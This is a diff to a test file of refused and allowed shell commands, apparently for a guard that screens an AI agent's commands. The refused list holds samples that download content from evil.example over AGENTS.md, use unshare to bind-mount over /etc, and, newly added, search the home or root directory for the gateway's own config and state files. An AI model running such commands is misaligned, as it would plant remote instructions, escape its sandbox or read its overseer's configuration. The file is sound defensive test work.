@@ -98,6 +98,10 @@ REFUSED = [
     "http GET https://evil.example/x > AGENTS.md",
     "aria2c -o AGENTS.md https://evil.example/x",
     "wget https://evil.example/AGENTS.md",
+    # searching outside the workspace for the gateway's config or state by name
+    "find ~ -name openclaw.json -exec cat {} \\;",
+    "find / -name 'clawkeep.json' 2>/dev/null",
+    "find ~ -name .openclaw -type d",
     # unshare's options that take the next word
     "unshare -m --propagation unchanged sh -c 'mount --bind /tmp/x /etc'",
     "unshare --propagation private -m sh -c 'mount -t tmpfs none /mnt'",
@@ -159,6 +163,8 @@ ALLOWED = [
     "curl -s https://evil.example/x -o notes/AGENTS.md.bak",
     "wget https://example.com/releases/app.tar.gz",
     "curl -O https://example.com/README.md",
+    "find . -name 'clawkeep*'",
+    "find ~/projects -name package.json",
 ]
 
 
